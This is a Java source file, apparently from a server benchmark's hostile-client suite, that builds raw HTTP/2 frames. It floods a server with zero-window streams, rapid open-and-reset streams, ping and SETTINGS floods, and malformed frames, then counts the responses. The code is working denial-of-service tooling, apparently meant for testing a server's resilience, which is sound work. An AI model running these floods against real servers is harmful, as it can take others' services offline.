package dev.modelatlas.bench.hostile;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.List;
import java.util.function.IntFunction;

/**
 * An HTTP/2 connection without TLS that opens streams and accepts no response bodies: its window is 0, and it
 * acknowledges nothing.
 */
final class Http2Flood {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int PRIORITY = 2;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int WINDOW_UPDATE = 8;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final int HEAD = 9;

    /** A frame to send. */
    record Frame(int type, int flags, int stream, byte[] payload) {}

    /** Frames after which the server must reset a stream that was opened by a complete request. */
    static final List<IntFunction<List<Frame>>> BREAKS = List.of(
            stream -> List.of(new Frame(WINDOW_UPDATE, 0, stream, new byte[4])),
            stream -> List.of(new Frame(DATA, 0, stream, new byte[] {'x'})),
            stream ->
                    List.of(new Frame(PRIORITY, 0, stream, new byte[] {0, 0, (byte) (stream >> 8), (byte) stream, 1})),
            stream -> Collections.nCopies(
                    2, new Frame(WINDOW_UPDATE, 0, stream, new byte[] {0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff})));

    private final Caller caller;
    private final Socket socket;
    private final DataOutputStream out;
    private int stream = -1;

    private Http2Flood(Caller caller) throws IOException {
        this.caller = caller;
        this.socket = caller.connect();
        this.out = new DataOutputStream(socket.getOutputStream());
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(SETTINGS, 0, 0, new byte[] {0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0});
    }

    /** Requests a page on each of {@code streams} streams, and leaves the connection open. */
    static void pages(Caller caller, String path, int streams) throws IOException {
        var flood = new Http2Flood(caller);
        try {
            for (var sent = 0; sent < streams; sent++) {
                flood.get(path);
            }
        } catch (IOException closed) {
            caller.met("closed");
        }
        flood.hear();
    }

    /** Sends a query with a different body on each of {@code streams} streams, and leaves the connection open. */
    static void questions(Caller caller, java.util.function.Supplier<String> body, int streams) throws IOException {
        var flood = new Http2Flood(caller);
        try {
            for (var sent = 0; sent < streams; sent++) {
                flood.post(body.get());
            }
        } catch (IOException closed) {
            caller.met("closed");
        }
        flood.hear();
    }

    /** Opens streams and resets them at once. */
    static void resets(Caller caller, String path, int streams) throws IOException {
        var flood = new Http2Flood(caller);
        try {
            for (var sent = 0; sent < streams; sent++) {
                flood.get(path);
                flood.frame(RESET, 0, flood.stream, new byte[] {0, 0, 0, 8});
            }
        } catch (IOException closed) {
            caller.met("closed");
        }
        flood.hear();
    }

    /** Sends pings, each of which must be answered. */
    static void pings(Caller caller, int pings) throws IOException {
        repeat(caller, pings, PING, new byte[8]);
    }

    /** Sends empty settings, each of which must be acknowledged. */
    static void settings(Caller caller, int settings) throws IOException {
        repeat(caller, settings, SETTINGS, new byte[0]);
    }

    private static void repeat(Caller caller, int frames, int type, byte[] payload) throws IOException {
        var flood = new Http2Flood(caller);
        try {
            for (var sent = 0; sent < frames; sent++) {
                flood.frame(type, 0, 0, payload);
            }
        } catch (IOException closed) {
            caller.met("closed");
        }
        flood.hear();
    }

    /** Opens streams that the server must reset. */
    static void brokenBy(Caller caller, IntFunction<List<Frame>> broken, int streams, IntFunction<String> path)
            throws IOException {
        var flood = new Http2Flood(caller);
        try {
            for (var sent = 0; sent < streams; sent++) {
                flood.get(path.apply(sent));
                for (var frame : broken.apply(flood.stream)) {
                    flood.frame(frame);
                }
            }
        } catch (IOException closed) {
            caller.met("closed");
        }
        flood.hear();
    }

    /** Sends frames without a request, and disconnects. */
    static void frames(Caller caller, int count, IntFunction<Frame> frame) throws IOException {
        var flood = new Http2Flood(caller);
        try (flood.socket) {
            for (var sent = 0; sent < count; sent++) {
                flood.frame(frame.apply(sent));
            }
            flood.hear();
        } catch (IOException closed) {
            caller.met("closed");
        }
    }

    /** Sends a request with these header fields unencoded, and disconnects. */
    static void ask(Caller caller, List<String> fields) throws IOException {
        var flood = new Http2Flood(caller);
        try (flood.socket) {
            var head = new ByteArrayOutputStream();
            for (var pair = 0; pair < fields.size(); pair += 2) {
                // A literal header field that is not added to the table of HPACK.
                head.write(0);
                text(head, fields.get(pair));
                text(head, fields.get(pair + 1));
            }
            flood.frame(HEADERS, END_STREAM | END_HEADERS, 1, head.toByteArray());
            flood.hear();
        } catch (IOException closed) {
            caller.met("closed");
        }
    }

    private void frame(Frame frame) throws IOException {
        frame(frame.type(), frame.flags(), frame.stream(), frame.payload());
    }

    private void get(String path) throws IOException {
        stream += 2;
        frame(HEADERS, END_STREAM | END_HEADERS, stream, head(0x82, path));
    }

    private void post(String body) throws IOException {
        stream += 2;
        frame(HEADERS, END_HEADERS, stream, head(0x83, "/graphql"));
        var bytes = body.getBytes(StandardCharsets.UTF_8);
        var most = 16_384;
        for (var from = 0; from < bytes.length; from += most) {
            var part = java.util.Arrays.copyOfRange(bytes, from, Math.min(bytes.length, from + most));
            frame(DATA, from + most >= bytes.length ? END_STREAM : 0, stream, part);
        }
    }

    /** Encodes the headers of a request without Huffman coding and without the dynamic table of HPACK. */
    private static byte[] head(int method, String path) throws IOException {
        var head = new ByteArrayOutputStream();
        head.write(method);
        head.write(0x86);
        field(head, 4, path);
        field(head, 1, "localhost");
        // Content-Type
        head.write(0x0f);
        head.write(0x10);
        text(head, "application/json");
        return head.toByteArray();
    }

    private static void field(ByteArrayOutputStream head, int name, String value) throws IOException {
        head.write(name);
        text(head, value);
    }

    private static void text(ByteArrayOutputStream head, String value) throws IOException {
        var bytes = value.getBytes(StandardCharsets.US_ASCII);
        if (bytes.length < 127) {
            head.write(bytes.length);
        } else {
            head.write(127);
            var rest = bytes.length - 127;
            for (; rest >= 128; rest /= 128) {
                head.write(rest % 128 + 128);
            }
            head.write(rest);
        }
        head.write(bytes);
    }

    private void frame(int type, int flags, int id, byte[] payload) throws IOException {
        var frame = new ByteArrayOutputStream(HEAD + payload.length);
        var data = new DataOutputStream(frame);
        data.writeByte(payload.length >> 16);
        data.writeShort(payload.length);
        data.writeByte(type);
        data.writeByte(flags);
        data.writeInt(id);
        data.write(payload);
        out.write(frame.toByteArray());
    }

    /** Counts frames by kind, up to 500, until none arrives for a second. */
    private void hear() {
        try {
            socket.setSoTimeout(1_000);
            var in = new java.io.DataInputStream(socket.getInputStream());
            for (var frames = 0; frames < 500; frames++) {
                var length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                var type = in.readUnsignedByte();
                in.readUnsignedByte();
                in.readInt();
                in.readNBytes(length);
                caller.met(name(type));
            }
        } catch (IOException over) {
            caller.met("open");
        }
    }

    private static String name(int type) {
        return switch (type) {
            case DATA -> "data";
            case HEADERS -> "headers";
            case RESET -> "reset";
            case GOAWAY -> "goaway";
            case PING -> "ping";
            default -> "frame";
        };
    }
}
